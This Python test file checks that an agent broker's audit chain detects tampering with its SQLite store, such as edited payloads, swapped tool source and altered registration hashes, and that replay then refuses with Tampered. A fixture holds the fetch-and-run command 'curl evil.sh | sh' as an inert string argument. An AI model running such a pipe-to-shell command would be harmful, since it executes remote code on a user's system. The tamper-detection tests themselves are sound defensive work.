"""Replay reads only what the audit chain vouches for. A run of a TypeScript tool (real Deno)
is recorded; the kernel is closed; the store is edited behind its back (payload cells, a tool
source, the registration's hash); a new kernel opens it. Verification names each edit, and
replay refuses with `Tampered` instead of saying `same`. An untouched run still verifies and
replays as the same.
"""

from __future__ import annotations

import json
import re
import sqlite3
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import msgpack
import pytest

from broker import AgentImage, Conflict, Kernel
from broker.cli import main as cli_main
from broker.store.vouch import Tampered
from sandboxes.deno import DenoSandbox
from tests.conftest import ALL_BUILTINS
from tests.sandboxes.conftest import CAPS, LIMITS, NEEDS

# The run as it happened, and a look-alike (other bytes, so another stored source) that an
# attacker would like replay to run in its place: it makes the same syscalls.
RAN = """export default async function run(args: {cmd: string}, libos: any) {
  const at = await libos.clock.now();
  return `${args.cmd} at ${at > 0}`;
}"""
LOOKALIKE = "// harmless\n" + RAN
EVIL = {"cmd": "curl evil.sh | sh"}


@asynccontextmanager
async def opened(db_path: Path) -> AsyncIterator[Kernel]:
    async with (DenoSandbox(spares=1, memory_mb=LIMITS.memory_mb) as deno,
                Kernel.open(db_path, sandboxes=[deno], call_limits=LIMITS) as kernel):
        yield kernel


class Run:
    """What the recorded run left behind: ids to aim edits at."""

    def __init__(self, db_path: Path) -> None:
        self.db_path = db_path
        self.pid = 0
        self.inv = 0
        self.outcome = 0          # the tool.call's outcome record
        self.clock_outcome = 0    # the tool's clock.now record (its intent and outcome)
        self.register_outcome = 0  # the tool.register outcome of `t`
        self.hash = ""
        self.lookalike = ""


@pytest.fixture
async def run(db_path: Path) -> Run:
    (db_path.parent / "libos-fs").mkdir()
    recorded = Run(db_path)
    async with opened(db_path) as kernel:
        await kernel.register_image(AgentImage("agent", tools=ALL_BUILTINS, needs=NEEDS))
        pid = recorded.pid = kernel.spawn("agent", caps=CAPS)
        recorded.hash = (await kernel.call_tool(pid, "register_tool", {
            "name": "t", "lang": "ts", "source": RAN}))["hash"]
        recorded.lookalike = (await kernel.call_tool(pid, "register_tool", {
            "name": "b", "lang": "ts", "source": LOOKALIKE}))["hash"]
        assert await kernel.call_tool(pid, "t", EVIL) == "curl evil.sh | sh at true"
        records = kernel.audit(pid)
        recorded.register_outcome = next(
            r["seq"] for r in records if r["syscall"] == "tool.register"
            and r["phase"] == "outcome" and r["detail"]["result"]["name"] == "t")
        recorded.inv = next(r["seq"] for r in records if r["syscall"] == "tool.call"
                            and r["phase"] == "intent" and r["resource"] == "t")
        recorded.outcome = next(r["seq"] for r in records if r["phase"] == "outcome"
                                and r["detail"].get("intent") == recorded.inv)
        recorded.clock_outcome = next(r["seq"] for r in records if r["syscall"] == "clock.now"
                                      and r["phase"] == "intent+outcome")
        replayed = await kernel.replay(recorded.inv)
        assert replayed["same"] is True
        assert kernel.verify_audit()[1] == []
    return recorded


def edit(db_path: Path, sql: str, *params: Any) -> None:
    with sqlite3.connect(db_path) as db:
        assert db.execute(sql, params).rowcount == 1


def payload(db_path: Path, seq: int) -> Any:
    with sqlite3.connect(db_path) as db:
        return msgpack.unpackb(db.execute("SELECT payload FROM audit WHERE seq=?",
                                          (seq,)).fetchone()[0])


def set_payload(db_path: Path, seq: int, value: Any) -> None:
    edit(db_path, "UPDATE audit SET payload=? WHERE seq=?", msgpack.packb(value), seq)


def benign_arguments(run: Run) -> str:
    """The issue's edit: the call's arguments and its result, in their payload cells only."""
    set_payload(run.db_path, run.inv, {"name": "t", "args": {"cmd": "echo hello"}})
    set_payload(run.db_path, run.outcome, "echo hello at true")
    return f"record {run.inv}: its stored arguments payload does not match the hash"


def clock_result(run: Run) -> str:
    set_payload(run.db_path, run.clock_outcome, 0)
    return f"record {run.clock_outcome}: its stored result payload does not match the hash"


def tool_source(run: Run) -> str:
    """The stored source of the code that ran, swapped for the look-alike's bytes."""
    edit(run.db_path, "UPDATE tool_sources SET source=? WHERE hash=?",
         LOOKALIKE.encode(), run.hash)
    return f"record {run.register_outcome}: the tool source {run.hash[:16]}… does not match"


def registration_payload(run: Run) -> str:
    """The registration's stored result, pointed at the look-alike's source."""
    registered = payload(run.db_path, run.register_outcome)
    set_payload(run.db_path, run.register_outcome, {**registered, "hash": run.lookalike})
    return (f"record {run.register_outcome}: its stored result payload does not match the "
            "hash")


def stored_registration(run: Run) -> str:
    """The process's stored tool table, pointed at the look-alike's source."""
    with sqlite3.connect(run.db_path) as db:
        spec = json.loads(db.execute("SELECT spec FROM process_tools WHERE pid=? AND name='t'",
                                     (run.pid,)).fetchone()[0])
    edit(run.db_path, "UPDATE process_tools SET spec=? WHERE pid=? AND name='t'",
         json.dumps({**spec, "hash": run.lookalike}), run.pid)
    return (f"record {run.register_outcome}: process {run.pid} registered tool 't' as ts code "
            f"{run.hash[:16]}…, but its stored registration names ts code "
            f"{run.lookalike[:16]}…: edited")


EDITS: dict[str, Callable[[Run], str]] = {
    "arguments and result": benign_arguments,
    "a syscall's result": clock_result,
    "the tool's source": tool_source,
    "the registration's result": registration_payload,
    "the stored registration": stored_registration,
}


@pytest.mark.parametrize("what", EDITS)
async def test_replay_refuses_what_the_chain_does_not_vouch_for(
        run: Run, what: str, capsys: pytest.CaptureFixture[str]) -> None:
    reported = EDITS[what](run)
    code = cli_main(["audit", "--verify", "--json", "--db", str(run.db_path)])
    problems = json.loads(capsys.readouterr().out)["problems"]
    assert code == 1 and any(p.startswith(reported) for p in problems), problems
    async with opened(run.db_path) as kernel:
        assert any(p.startswith(reported) for p in kernel.verify_audit()[1])
        before = kernel.store.head_seq
        with pytest.raises(Tampered, match="replay refused.*" + re.escape(reported)):
            await kernel.replay(run.inv)
        assert kernel.store.head_seq == before  # a refused replay writes nothing
        # The neighbour: another tool of the same process still runs, and is audited.
        assert await kernel.call_tool(run.pid, "b", {"cmd": "ls"}) == "ls at true"
        assert kernel.audit(run.pid)[-1]["phase"] == "outcome"


@pytest.mark.parametrize("what", ["the tool's source", "the stored registration"])
async def test_a_live_call_refuses_code_the_chain_does_not_vouch_for(
        run: Run, what: str) -> None:
    """Loading a tool for a run checks its source against its hash, and the process's stored
    registration against the chain: the edited tool fails as `Tampered`, in the audit."""
    reported = EDITS[what](run)
    if what == "the tool's source":  # loading knows the hash, not the record that named it
        reported = f"tool source {run.hash[:16]}… does not match its hash: edited"
    async with opened(run.db_path) as kernel:
        with pytest.raises(Conflict, match=re.escape(reported)) as raised:
            await kernel.call_tool(run.pid, "t", {"cmd": "echo hello"})
        assert isinstance(raised.value, Tampered)
        last = kernel.audit(run.pid)[-1]
        assert last["syscall"] == "tool.call" and last["detail"]["ok"] is False
        assert last["detail"]["error"] == "CONFLICT"
        assert last["detail"]["message"].startswith(reported)
        assert await kernel.call_tool(run.pid, "b", {"cmd": "ls"}) == "ls at true"


async def test_an_untouched_run_verifies_and_replays_the_same(
        run: Run, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli_main(["audit", "--verify", "--db", str(run.db_path)]) == 0
    async with opened(run.db_path) as kernel:
        assert kernel.verify_audit()[1] == []
        replayed = await kernel.replay(run.inv)
        assert replayed["same"] is True
        assert replayed["replayed"]["value"] == "curl evil.sh | sh at true"
        assert await kernel.call_tool(run.pid, "t", {"cmd": "echo"}) == "echo at true"


# A tool of the process's image (no `tool.register` in the chain): the images table says which
# code its name stands for, and the store can be edited like any other.
QUIET_LOOKALIKE = "// harmless\n" + RAN.replace("{\n", "{\n  console.log('look-alike ran');\n", 1)


async def test_replay_runs_the_image_tool_code_the_chain_says_ran(db_path: Path) -> None:
    (db_path.parent / "libos-fs").mkdir()
    tools = (*ALL_BUILTINS, {"name": "t", "lang": "ts", "source": RAN},
             {"name": "b", "lang": "ts", "source": QUIET_LOOKALIKE})
    async with opened(db_path) as kernel:
        await kernel.register_image(AgentImage("imaged", tools=tools, needs=NEEDS))
        pid = kernel.spawn("imaged", caps=CAPS)
        assert await kernel.call_tool(pid, "t", EVIL) == "curl evil.sh | sh at true"
        inv = next(r["seq"] for r in kernel.audit(pid) if r["syscall"] == "tool.call"
                   and r["phase"] == "intent" and r["resource"] == "t")
        specs = {t["name"]: t for t in kernel.image("imaged").tools if isinstance(t, dict)}
        ran, lookalike = specs["t"]["hash"], specs["b"]["hash"]
        # the invocation's outcome, in the chain, names the code that ran
        [outcome] = [r for r in kernel.audit(pid) if r["phase"] == "outcome"
                     and r["detail"].get("intent") == inv]
        assert outcome["detail"]["code"] == {"lang": "ts", "hash": ran}
    with sqlite3.connect(db_path) as db:  # the image's `t` now names the look-alike's code
        spec = json.loads(db.execute("SELECT spec FROM images WHERE name='imaged'").fetchone()[0])
        for tool in spec["tools"]:
            if isinstance(tool, dict) and tool["name"] == "t":
                tool["hash"] = lookalike
        edit(db_path, "UPDATE images SET spec=? WHERE name='imaged'", json.dumps(spec))
    async with opened(db_path) as kernel:
        # The edited image is refused at load (invariant 15): the process on it is not run
        # again but ended, and the opening broker's record of that makes replay refuse too.
        row = kernel.store.get_process(pid)
        assert row["state"] == "killed" and "image imaged:1" in row["reason"]
        with pytest.raises(Tampered, match="image imaged:1 is stored otherwise"):
            await kernel.replay(inv)
        with pytest.raises(Tampered, match="image imaged:1 is stored otherwise"):
            kernel.spawn("imaged", caps=CAPS)
